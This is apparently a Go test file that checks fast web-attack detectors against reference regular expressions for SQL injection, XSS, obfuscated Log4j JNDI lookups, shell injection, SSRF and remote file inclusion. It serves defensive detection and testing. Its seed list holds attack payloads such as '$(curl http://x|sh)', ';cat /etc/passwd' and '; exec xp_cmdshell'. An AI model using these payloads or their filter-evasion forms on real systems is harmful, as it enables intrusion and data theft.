package detect

import (
	"math/rand/v2"
	"regexp"
	"strings"
	"testing"
)

// The expressions the checks of confirm.go implement, as Go regular
// expressions run over the whole field: the plain, slow reference that the
// checks must agree with exactly (TestConfirmReference, FuzzConfirm).

var (
	// Between the keywords: blanks (vertical tab and bytes that are not
	// UTF-8, such as MySQL's 0xA0, included), comments and MySQL's
	// versioned comments (/*!50000select*/), sqlmap's usual disguises.
	refUnionSelect = regexp.MustCompile(`union` + refSQLGap + `*(?:(?:all|distinct)` + refSQLGap + `+)?select[\s\v/*+(\x{fffd}]`)
	// SELECT ... FROM only after a quote, parenthesis or semicolon: plain
	// search text ("how to select rows from a table") is not SQL.
	refSelectFrom = regexp.MustCompile(`['"();][\s\v/*]*\(?[\s\v/*]*select[\s\v/*+(]+.{1,80}?[\s\v/*)'"]+from[\s\v/*+(]`)
	refSQLSleep   = regexp.MustCompile(`(?:['"(),=*]|\b(?:and|or|xor|if|select|then|else|waitfor|union))[\s\v/*+]*sleep\([\s\v/*]*\d`)
	refSQLStacked = regexp.MustCompile(`;[\s\v/*]*(?:(?:drop|truncate|alter)[\s\v/*]+(?:table|database|schema|user)|delete[\s\v/*]+from|` +
		`insert[\s\v/*]+into|update[\s\v/*]+\S+[\s\v/*]+set|shutdown|declare[\s\v/*]+@|exec(?:ute)?[\s\v/*]+(?:xp_|sp_|master\.))`)
	// A comparison of two numbers after and/or/xor: what a person never
	// types, what every blind injection starts with.
	refSQLBoolean = regexp.MustCompile(`(?:^|[^a-z0-9_])(?:and|or|xor)[\s\v/*+(]+\d+[\s\v/*)]*(?:=|<>|!=|<|>)[\s\v/*(]*\d+(?:[^0-9.a-z_]|$)`)
	refSQLTaut    = regexp.MustCompile(`['"\)][\s\v/*]*(or|and)[\s\v/*(]+['"]?\w*['"]?[\s\v/*]*(=|like|<|>)`)
	// An event handler attribute inside markup, not a query parameter.
	refEventHandler = regexp.MustCompile(`[\s/"'<+;]on[a-z]+\s*=`)
	// Log4j lookups nested to hide "jndi": ${lower:j}, ${::-j}, ${env:X:-j}, ${date:'j'}.
	refLookupDefault = regexp.MustCompile(`\$\{[^${}]*?:-([^${}]*)\}`)
	refLookupCase    = regexp.MustCompile(`\$\{(?:lower|upper|date):'?([^${}']*)'?\}`)
)

// sqlmap's tampers also break the keywords with a line comment and a
// newline (union#x%0aselect, union-- x%0aselect).
const refSQLGap = `(?:[\s\v/*+()\x{fffd}]|/\*!\d*|#[^\n]{0,64}\n|--[^\n]{0,64}\n)`

// confirmJNDI reports whether a "${" text hides a JNDI lookup.
func refJNDI(s string) bool {
	if strings.Contains(s, "${jndi:") {
		return true
	}
	for range 6 {
		t := refLookupCase.ReplaceAllString(refLookupDefault.ReplaceAllString(s, "$1"), "$1")
		if strings.Contains(t, "${jndi:") || strings.Contains(t, "jndi:ldap") || strings.Contains(t, "jndi:rmi") ||
			strings.Contains(t, "jndi:dns") || strings.Contains(t, "jndi:iiop") || strings.Contains(t, "jndi:http") ||
			strings.Contains(t, "jndi:nis") || strings.Contains(t, "jndi:corba") {
			return true
		}
		if t == s {
			return false
		}
		s = t
	}
	return false
}

var (
	// A command that is an attack after any shell metacharacter.
	refShellCommand = regexp.MustCompile("(?:[;|`]|\\$\\(|&&)\\s*(?:wget|curl|chmod|bash|sh|busybox|ncat|nc|tftp|nslookup|powershell|python[23]?|perl|whoami|uname|ifconfig|netstat|sleep\\s+\\d|ping\\s+-[cn])(?:[\\s+;|`)&<>]|$)")
	// Short commands that are also words and names ("sort=name|id"): only
	// after a metacharacter that follows a digit, quote or the start of a
	// value, or with shell-looking arguments.
	refShellShort = regexp.MustCompile("(?:(?:^|[^a-z_])(?:[;|`]|\\$\\(|&&)\\s*(?:id|cat|echo|ls|cd|rm|pwd|ping|sleep|uname)(?:[\\s+;|`)&<>]|$))|(?:(?:[;|`]|\\$\\(|&&)\\s*(?:cat|ls|cd|rm|echo|head|tail)\\s+[-/~.$'\"])")
)

func refShell(s string) bool { return refShellCommand.MatchString(s) || refShellShort.MatchString(s) }

// A parameter whose value is a URL to a loopback host: localhost,
// 127.0.0.0/8 in dotted, decimal, hex or octal form, 0.0.0.0, or IPv6 [::1]
// and [::ffff:127.x].
var refLoopbackURL = regexp.MustCompile(`([a-z0-9_.\[\]-]*)=(?:[a-z][a-z0-9+.-]*:)?//(?:[^/?#&@]*@)?` +
	`(?:localhost|127(?:\.\d{1,3}){0,3}|0x7f[0-9a-fx.]*|0177(?:\.[0-7x]+)*|21[34]\d{7}|0+(?:\.0+){0,3}|` +
	`\[(?:[0:]*:0*1|::|[0:]*:ffff:(?:127\.[0-9.]+|7f[0-9a-f:]*))\])(?:[:/?#&]|$)`)

func refLoopback(s string) bool {
	for _, m := range refLoopbackURL.FindAllStringSubmatch(s, -1) {
		// Native apps receive OAuth answers on loopback (RFC 8252).
		if !strings.HasSuffix(m[1], "redirect_uri") {
			return true
		}
	}
	return false
}

var (
	// Parameter names that take a file or template to include. Not url=,
	// next= or redirect=: those take links.
	refRFIParam = regexp.MustCompile(`(?:^|[?&;])[a-z0-9_\[\]-]*?(?:file|filename|page|include|inc|incl|require|template|tpl|` +
		`path|filepath|doc|document|folder|dir|root|style|layout|mod|module|conf|config|lang|language|view|load|read|show|content|skin|theme|pg)` +
		`(?:\[\])?=(?:(?:https?|ftps?|smb):)?//`)
	// Any URL ending in "?" (or .txt?): the suffix the include appends is cut off.
	refRFISuffix = regexp.MustCompile(`=(?:https?|ftp)://[^&]*(?:\?$|\?&|\?\?|\.txt\?)`)
)

func refRFI(s string) bool { return refRFIParam.MatchString(s) || refRFISuffix.MatchString(s) }

// A line break that starts a header an attacker would set, or ends the
// headers to start a body of their own.
var refCRLFHeader = regexp.MustCompile(`\r?\n[\t ]*(?:set-cookie|location|content-(?:type|length|security-policy|disposition)|` +
	`x-[a-z-]+|refresh|access-control-[a-z-]+|cache-control|link|host)[\t ]*:|\r?\nhttp/1\.[01] \d|\r?\n\r?\n[\t ]*<`)

// refChecks pairs each check with its reference, and with the pieces its
// random fields are built from: the expression's keywords and punctuation,
// near misses, upper case, non-ASCII runes and bytes that are not UTF-8.
var refChecks = []struct {
	c      *check
	ref    func(string) bool
	pieces []string
}{
	{checkUnionSelect, refUnionSelect.MatchString, []string{"union", "union", "select", "select", "all", "distinct", " ", "\v", "/", "*",
		"+", "(", ")", "\xa0", "\ufffd", "/*!", "/*", "5", "0", "#", "--", "-", "\n", "\n", "x", "a", "!", "\u00e9", "s", "\xe0\x80",
		"selec", "unio", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", "\t"}},
	{checkSelectFrom, refSelectFrom.MatchString, []string{"select", "select", "from", "from", "'", "\"", "(", ")", ";", " ", " ", "\v",
		"/", "*", "+", "\n", "x", "abcdefghij", "abcdefghijklmnopqrstuvwxyzabcdefghijklmn", "\u00e9", "\xff", "\u4e2d", "fro", "\t",
		"'select ", "(select(", " from ", ")from(", "\u4e2d\u4e2d\u4e2d\u4e2d\u4e2d\u4e2d\u4e2d\u4e2d\u4e2d\u4e2d"}},
	{checkSQLTaut, refSQLTaut.MatchString, []string{"'", "'", "\"", ")", " ", " ", "/", "*", "(", "or", "or", "and", "like", "lik",
		"=", "<", ">", "x", "1", "_", "\v", "\u00e9", "O", "l", "\n"}},
	{checkSQLSleep, refSQLSleep.MatchString, []string{"sleep(", "sleep(", "sleep", "(", " ", "*", "+", "/", "1", "and", "or", "xor",
		"if", "select", "then", "else", "waitfor", "union", "'", "=", ",", "x", "_", "\u00e9", "A", "\v", "\"", " and sleep(", "sleep( 1",
		"(sleep(", " 2", "*sleep("}},
	{checkSQLStacked, refSQLStacked.MatchString, []string{";", ";", " ", " ", "\v", "/", "*", "drop", "truncate", "alter", "table",
		"database", "schema", "user", "delete", "from", "insert", "into", "update", "update", "set", "set", "x", "shutdown", "declare",
		"@", "exec", "execute", "ute", "xp_", "sp_", "master.", "\t", "\u00e9", "s", "et", "\n"}},
	{checkSQLBoolean, refSQLBoolean.MatchString, []string{"and", "or", "xor", "x", " ", " ", "(", "+", "/", "*", "1", "23", ")",
		"=", "<>", "!=", "<", ">", ".", "a", "_", "\u00e9", "A", "\v", "!", "9", " and 1", " or (2", "=1", "<>3 ", " xor 4 ", "!=5"}},
	{checkEventHandler, refEventHandler.MatchString, []string{"on", "on", "onerror", "error", " ", "/", "\"", "'", "<", "+", ";",
		"=", "=", "x", "A", "\t", "\u00e9", "\v", "\n"}},
	{checkJNDI, refJNDI, []string{"${", "${", "}", "}", "$", "{", ":-", ":", "-", "lower:", "upper:", "date:", "'", "j", "n", "d",
		"i", "jndi:", "ldap", "rmi", "x", "::-", "env:", "${jndi:", "jndi", "dns", "nd", "ndi:"}},
	{checkShell, refShell, []string{";", "|", "`", "$(", "&&", "&", "$", "(", " ", " ", "\t", "wget", "curl", "sh", "nc", "ncat",
		"python", "2", "3", "sleep", "ping", "-c", "-n", "id", "cat", "ls", "echo", "head", "tail", "/", "x", "a", "_", "1", ")", "+",
		"<", "\u00e9", "A", "~", ".", "'", "-"}},
	{checkLoopbackURL, refLoopback, []string{"=", "=", "//", "//", "http:", "x:", "redirect_uri", "a", "_", ".", "[", "]", "@",
		"localhost", "127", ".", "0", "1", "1234", "0x7f", "0177", "7", "x", "2130706433", "213", "214", "0000000", "::", ":",
		"ffff:", "7f", "/", "?", "#", "&", "\u00e9", "z", "+", "-", "f", "x=//", "=http://", "127.0.0.1", "[::1]", "[::ffff:",
		"=//localhost", "0.0", "u@"}},
	{checkRFI, refRFI, []string{"=", "=", "//", "http:", "https:", "ftp:", "ftps:", "smb:", "://", "file", "page", "[]", "[", "]",
		"x", "?", "&", ";", "_", "-", "??", ".txt?", ".txt", "http", "ftp", "a", "/", "\u00e9", "pg", "inc", "filepath", "?file=",
		"&page[]=", "=http://", "=ftp://", "?&", "??", "x?"}},
	{checkCRLF, refCRLFHeader.MatchString, []string{"\n", "\n", "\r", " ", "\t", "set-cookie", "location", "content-type", "content-",
		"x-", "a", "-", "access-control-", "host", "link", ":", ":", "http/1.", "0", "1", " ", "5", "<", "x", "\u00e9"}},
	{checkNotVoid, func(s string) bool { return !strings.Contains(s, "javascript:void") },
		[]string{"javascript:", "void", "javascript:void", "x", "javascript"}},
	{checkPHPName, regexp.MustCompile(`\.(?:php|phtml)$`).MatchString, []string{".php", ".phtml", "php", ".", "x", "/", "\n"}},
}

// confirmSeeds are hand-picked fields for each check, matching and not.
var confirmSeeds = []string{"1 union/**/select 1", "x') select a from b", "' or 'a'='a", "1 and sleep(5)", ";drop table x",
	" and 1=1", "<svg onload=x>", "${${lower:j}ndi:ldap://x}", ";cat /etc/passwd", "u=http://127.0.0.1/", "file=http://x/?",
	"\r\nset-cookie: x", "union#x\n#union\nselect(", "'select/**/x/**/from(", ";update/x/set",
	"union select", "union/*!50000select*/", "union#x\nselect ", "union--\n all\tselect(", "union distinctselect ", "union\xa0select ",
	"'select 1 from", "(select x from(", "'select\nx\nfrom ", "\" or 1 like", "') and x=", "1 or sleep(1)", "if(1,sleep(2),0)",
	";delete from x", ";update/**/users/**/set", "; exec xp_cmdshell", "1 xor 2>1", "x and 1=1.5", "<a/onclick =x>",
	"${${::-j}ndi:rmi://x}", "${jndi}", "$(curl http://x|sh)", "a=1|id", "name|id", "&&python3 ", "x=//[::1]/", "x=//0x7f.1/",
	"redirect_uri=http://localhost/", "x=http://u@127.0.0.1:80", "?file=//evil/x", "&page[]=http://x", "x=http://evil/a.txt?",
	"\r\nlocation: x", "\nhttp/1.1 200", "\n\r\n <b>", "\nx-foo :1",
}

// TestConfirmReference checks each check against its expression on
// hand-picked fields and on random fields built from the expression's own
// pieces, and that both answers occur often enough for the comparison to
// mean something.
func TestConfirmReference(t *testing.T) {
	n := 20000
	if testing.Short() {
		n = 2000
	}
	for _, rc := range refChecks {
		t.Run(rc.c.name, func(t *testing.T) {
			for _, s := range confirmSeeds {
				if got, want := rc.c.match(s), rc.ref(s); got != want {
					t.Errorf("%q: check %v, expression %v", s, got, want)
				}
			}
			rng := rand.New(rand.NewPCG(1, uint64(len(rc.c.name))))
			yes := 0
			for i := range n {
				var b strings.Builder
				for range rng.IntN(4 + i%40) {
					b.WriteString(rc.pieces[rng.IntN(len(rc.pieces))])
				}
				s := b.String()
				got, want := rc.c.match(s), rc.ref(s)
				if got != want {
					t.Fatalf("%q: check %v, expression %v", s, got, want)
				}
				if want {
					yes++
				}
			}
			if yes < n/50 || yes > n-n/50 {
				t.Errorf("%d of %d random fields match: too few of one answer to compare", yes, n)
			}
		})
	}
}

// FuzzConfirm checks that every check agrees with its expression, on
// fields of up to 16 KiB.
func FuzzConfirm(f *testing.F) {
	for _, s := range confirmSeeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		if len(s) > 16<<10 {
			t.Skip("the reference is slow past some KB; the checks' own bound is by construction")
		}
		for _, rc := range refChecks {
			if got, want := rc.c.match(s), rc.ref(s); got != want {
				t.Fatalf("%s on %q: check %v, expression %v", rc.c.name, s, got, want)
			}
		}
	})
}
